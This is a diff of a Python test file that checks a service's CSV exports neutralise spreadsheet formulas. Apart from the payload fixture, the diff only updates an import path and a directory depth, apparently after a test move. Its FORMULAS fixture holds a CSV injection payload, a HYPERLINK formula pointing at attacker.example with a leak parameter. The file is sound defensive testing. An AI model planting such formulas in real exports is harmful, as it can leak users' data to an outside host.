@@ -16,7 +16,7 @@ from service.auth.permissions import Role
 from service.directory.models import OrgKind
 from service.exports.csv import FORMULA_START, chunks, neutralise, restore
 from tests.conftest import OrgFactory, TokenFactory, bearer, unique
-from tests.service.test_tasks import ZONE
+from tests.service.tasks.test_tasks import ZONE
 
 FORMULAS = [
     '=HYPERLINK("http://attacker.example/?leak=1","click")',
@@ -153,7 +153,7 @@ async def test_every_csv_route_neutralises_formulas(
 def test_only_the_shared_writer_writes_csv() -> None:
     """Nothing in the service writes CSV but ``service.exports.csv`` (and the demo's input
     files): a route that writes its own would escape the rule even without declaring text/csv."""
-    root = Path(__file__).parents[2] / "service"
+    root = Path(__file__).parents[3] / "service"
     allowed = {root / "exports" / "csv.py", root / "synthetic.py"}
     for path in root.rglob("*.py"):
         tree = ast.parse(path.read_text())
